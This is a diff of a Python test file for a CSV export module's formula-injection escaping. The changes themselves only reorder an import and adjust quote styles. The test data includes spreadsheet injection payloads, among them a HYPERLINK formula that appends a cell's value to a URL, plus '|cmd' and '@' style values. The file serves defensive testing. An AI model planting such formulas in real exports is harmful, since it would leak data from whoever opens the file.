@@ -15,10 +15,10 @@ from pathlib import Path
 import duckdb
 import pyarrow as pa
 import pytest
-from csvscan import FORMULA_START, cells, evaluated, formula_cells
 from hypothesis import HealthCheck, given, settings
 from hypothesis import strategies as st
 
+from csvscan import FORMULA_START, cells, evaluated, formula_cells
 from headcount.contract.csvout import (
     escape_cell,
     format_row,
@@ -31,7 +31,7 @@ from headcount.contract.csvout import (
 
 HYPERLINK = '=HYPERLINK("http://x?"&B2)'
 # Text rich in what matters here: formula characters, quotes, separators, line breaks.
-TRICKY = st.sampled_from(list("=+-@|\t\r\n ',;\"a1.") + ["\uff1d", "\uff20", "é"])
+TRICKY = st.sampled_from([*"=+-@|\t\r\n ',;\"a1.", "\uff1d", "\uff20", "é"])
 texts = st.text(TRICKY, max_size=12) | st.text(max_size=12)
 
 
@@ -57,14 +57,14 @@ def _old_copy(table: pa.Table, path: Path) -> None:
     ("value", "field"),
     [
         (HYPERLINK, '"\'=HYPERLINK(""http://x?""&B2)"'),
-        ("+E2", "\"'+E2\""),
-        ("-E3", "\"'-E3\""),
-        ("@E4", "\"'@E4\""),
-        ("\tx", "\"'\tx\""),
-        ("\r=x", "\"'\r=x\""),
-        ("|cmd", "\"'|cmd\""),
-        ("\uff1dSUM(A1)", "\"'\uff1dSUM(A1)\""),
-        ("  =1+1", "\"'  =1+1\""),
+        ("+E2", '"\'+E2"'),
+        ("-E3", '"\'-E3"'),
+        ("@E4", '"\'@E4"'),
+        ("\tx", '"\'\tx"'),
+        ("\r=x", '"\'\r=x"'),
+        ("|cmd", '"\'|cmd"'),
+        ("\uff1dSUM(A1)", '"\'\uff1dSUM(A1)"'),
+        ("  =1+1", '"\'  =1+1"'),
         ("'=1", "\"''=1\""),  # one more apostrophe, so unescaping is exact
         ("O'Brien", "O'Brien"),
         ("E0000001", "E0000001"),
@@ -80,7 +80,7 @@ def test_text_fields(value: str, field: str) -> None:
 
 def test_numbers_stay_numbers_and_text_does_not() -> None:
     row = format_row(["-E3", Decimal("-12.50"), -7, None, "", "x"])
-    assert row == "\"'-E3\",-12.50,-7,,,x"
+    assert row == '"\'-E3",-12.50,-7,,,x'
     assert formula_cells(row) == []
 
 
@@ -166,7 +166,7 @@ def test_normal_tables_give_the_bytes_of_duckdbs_copy(tmp_path: Path, rows: list
 def test_a_negative_amount_stays_a_number(tmp_path: Path) -> None:
     write_table(_table(["-E3", "E4"], [Decimal("-12.50"), Decimal("3.00")]), tmp_path / "t.csv")
     assert (tmp_path / "t.csv").read_text().splitlines()[1:] == [
-        "\"'-E3\",-12.50,0,[-E3]",
+        '"\'-E3",-12.50,0,[-E3]',
         "E4,3.00,1,[E4]",
     ]
 
